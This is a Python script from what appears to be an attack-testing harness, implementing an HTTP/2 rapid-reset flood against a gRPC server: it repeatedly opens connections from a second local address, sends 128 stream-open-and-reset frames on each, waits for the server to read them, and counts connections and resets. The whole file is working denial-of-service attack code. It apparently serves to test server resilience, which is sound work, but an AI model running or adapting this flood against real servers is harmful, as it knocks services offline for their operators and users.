"""As many calls as a connection takes, reset at once, and then the next connection."""

from __future__ import annotations

import sys
import time
from contextlib import suppress

from attacks.a02_rapid_reset import resets
from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import connected

# What gRPC takes of one connection before it refuses the next one.
_CALLS = 128
# Another address than the honest caller's.
_SOURCE = "127.0.0.2"


def _strike(target: Target, begin: Begin) -> Counts:
    frames = resets(target, _CALLS)
    connections = 0
    until = begin()
    while time.monotonic() < until:
        with suppress(OSError), connected(target.place, source=_SOURCE) as connection:
            connection.sendall(frames)
            connections += 1
            # Until the server has read them: a connection that is closed before brings none.
            connection.recv(1 << 16)
    return {"connections": connections, "resets": connections * _CALLS}


ATTACK = Attack("resets on one connection after another", _strike, needs_proxy=True)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
